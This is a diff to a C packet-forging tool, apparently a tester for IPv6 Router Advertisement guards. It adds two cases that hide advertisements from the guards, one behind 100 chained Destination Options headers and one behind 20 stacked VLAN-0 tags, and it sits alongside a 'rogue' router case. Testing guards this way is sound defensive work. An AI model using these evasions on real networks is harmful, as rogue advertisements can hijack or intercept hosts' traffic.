@@ -174,10 +174,9 @@ static void fragment(struct forged *f)
 	put_bytes(f, rd_bytes(&r, len), len);
 }
 
-/* A Destination Options header, which RA guards have been known not to look behind. */
-static void extension(struct forged *f)
+/* Behind this many Destination Options headers, where RA guards have been known not to look. */
+static void behind(struct forged *f, unsigned count)
 {
-	static const uint8_t header[8] = {IP6_ICMPV6, 0, 1, 4};
 	struct forged whole;
 	struct rd r;
 	size_t len;
@@ -188,15 +187,27 @@ static void extension(struct forged *f)
 	rd_skip(&r, ETHER_HEADER_SIZE + IP6_HEADER_SIZE);
 	len = rd_left(&r);
 	f->ip.next_header = IP6_DESTINATION;
-	f->ip.payload_length = (uint16_t)(len + sizeof(header));
+	f->ip.payload_length = (uint16_t)(len + 8 * count);
 	ether_write(&f->w, (const uint8_t[]){0x33, 0x33, 0, 0, 0, 1}, f->mac, ETHER_TYPE_IP6);
 	ip6_write(&f->w, &f->ip);
-	put_bytes(f, header, sizeof(header));
+	for (; count > 0; count--)
+		put_bytes(f, (const uint8_t[]){count > 1 ? IP6_DESTINATION : IP6_ICMPV6, 0, 1, 4,
+			0, 0, 0, 0}, 8);
 	put_bytes(f, rd_bytes(&r, len), len);
 }
 
-/* In VLAN 5, priority 3, which the kernel takes off the frame. */
-static void vlan(struct forged *f)
+static void extension(struct forged *f)
+{
+	behind(f, 1);
+}
+
+static void extensions(struct forged *f)
+{
+	behind(f, 100);
+}
+
+/* With this many tags of 802.1Q, of which the kernel takes the first off the frame. */
+static void tagged(struct forged *f, uint16_t tci, unsigned count)
 {
 	struct forged whole;
 	struct rd r;
@@ -208,8 +219,23 @@ static void vlan(struct forged *f)
 	rd_skip(&r, 12);
 	len = rd_left(&r);
 	put_bytes(f, whole.bytes, 12);
-	put_bytes(f, (const uint8_t[]){0x81, 0, 0x60, 5}, 4);
+	for (; count > 0; count--) {
+		wr_u16(&f->w, ETHER_TYPE_8021Q);
+		wr_u16(&f->w, tci);
+	}
 	put_bytes(f, rd_bytes(&r, len), len);
+}
+
+/* VLAN 5, priority 3. */
+static void vlan(struct forged *f)
+{
+	tagged(f, 3 << 13 | 5, 1);
+}
+
+/* VLAN 0 is no VLAN: hosts take off any number of such tags, RA guards the first. */
+static void tags(struct forged *f)
+{
+	tagged(f, 0, 20);
 }
 
 /* A router that is wrong in nothing but that it is here, and disagrees. */
@@ -236,7 +262,9 @@ static const struct {
 	{"controls", controls},
 	{"fragment", fragment},
 	{"extension", extension},
+	{"extensions", extensions},
 	{"vlan", vlan},
+	{"tags", tags},
 	{"rogue", rogue},
 };
 
